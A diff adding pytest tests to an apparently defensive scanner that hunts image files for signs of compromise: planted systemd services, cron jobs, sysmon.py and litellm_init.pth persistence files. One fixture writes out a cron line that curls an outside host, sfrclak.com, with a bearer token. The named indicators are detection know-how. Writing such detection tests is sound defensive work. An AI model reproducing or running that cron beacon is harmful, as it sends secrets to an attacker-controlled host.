@@ -5,6 +5,7 @@ import codecs
 import os
 import socket
 import time
+from datetime import UTC, datetime, timedelta
 
 import msgspec
 import pytest
@@ -303,3 +304,71 @@ def test_files_of_settings_that_are_damaged_never_raise(image, plant, asked, noi
     notes = hunted(image, asked)
     assert notes.hits == ()
     assert notes.places
+
+
+def test_a_container_s_root_may_be_a_home(image, plant, asked):
+    linux(plant)
+    plant(".npmrc", b"")
+    plant(".config/sysmon/sysmon.py", SYSMON)
+    assert "~/.config/sysmon/sysmon.py" in {hit.subject for hit in hunted(image, asked).hits}
+
+
+def test_a_unit_that_only_its_target_s_folder_holds_is_read(image, plant, asked):
+    linux(plant)
+    plant("home/dev/.config/systemd/user/default.target.wants/x.service", UNIT)
+    (hit,) = hunted(image, asked).hits
+    assert hit.place.path.endswith("default.target.wants/x.service")
+
+
+def test_a_service_whose_place_nobody_tells_is_known_by_its_name(image, plant):
+    linux(plant)
+    fact = Fact("service", "pgmonitor.service", "persistence")
+    asked = Asked((msgspec.structs.replace(LITELLM, facts=(fact,)),))
+    plant("etc/systemd/system/pgmonitor.service", "[Service]\nExecStart=/opt/x\n")
+    (hit,) = hunted(image, asked).hits
+    assert (hit.subject, hit.confidence) == ("pgmonitor.service", "medium")
+
+
+@pytest.mark.parametrize(
+    ("database", "text"),
+    [
+        ("lib/apk/db/installed", "P:x\nF:usr/lib/systemd/system\nR:a.service\n"),
+        ("var/lib/pacman/local/x-1/files", "%FILES%\nusr/lib/systemd/system/a.service\n"),
+        ("etc/os-release", "ID=fedora\n"),
+    ],
+)
+def test_what_packages_brought_is_not_new(image, plant, database, text):
+    linux(plant)
+    plant("usr/lib/systemd/system/a.service", "[Service]\nExecStart=/usr/bin/a\n", at=IN_WINDOW)
+    plant("etc/systemd/system/b.service", "[Service]\nExecStart=/usr/bin/b\n", at=IN_WINDOW)
+    plant(database, text)
+    notes = hunted(image, Asked((), *WINDOW))
+    assert [hit.subject for hit in notes.hits] == ["b.service"]
+    assert any("no database of packages" in each.reason for each in notes.left_out) == ("os-release" in database)
+
+
+def test_a_file_that_was_touched_in_the_window_is_told_with_less_confidence(image, plant):
+    linux(plant)
+    plant("etc/cron.d/sync", "*/5 * * * * root /opt/sync\n")  # written long ago by its time, made just now
+    now = datetime.now(UTC)
+    found = hunted(image, Asked((), now - timedelta(minutes=5), now + timedelta(minutes=5))).hits
+    (hit,) = [each for each in found if each.place.path.endswith("cron.d/sync")]
+    assert (hit.confidence, hit.when.by) == ("low", "file change time")
+
+
+def test_secrets_in_what_is_started_are_not_told(image, plant, asked):
+    linux(plant)
+    plant("etc/cron.d/x", "* * * * * root curl -H 'Authorization: Bearer hidden-value' http://sfrclak.com/\n")
+    (hit,) = hunted(image, asked).hits
+    assert (hit.subject, hit.grade, hit.place.line) == ("sfrclak.com", "script-ran", 1)
+    assert "hidden-value" not in repr(hit)
+
+
+def test_a_name_whose_size_is_known_is_digested_only_at_that_size(image, plant, asked):
+    linux(plant)
+    plant("home/dev/venv/lib/site-packages/litellm_init.pth", b"x" * 34_628)
+    plant("home/dev/venv2/lib/site-packages/litellm_init.pth", b"x")
+    notes = hunted(image, asked)
+    (walked,) = [each for each in notes.places if each.kind.startswith("homes")]
+    assert dict(walked.counts)["digested"] == 1
+    assert notes.hits == ()
